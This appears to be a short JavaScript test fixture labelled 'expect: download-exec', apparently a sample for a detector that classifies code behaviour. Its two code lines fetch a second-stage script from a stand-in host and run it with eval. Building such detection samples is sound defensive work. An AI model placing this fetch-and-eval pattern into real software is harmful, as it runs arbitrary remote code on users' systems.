// expect: download-exec
const res = await fetch("https://drop.invalid/stage2.js");
eval(await res.text());
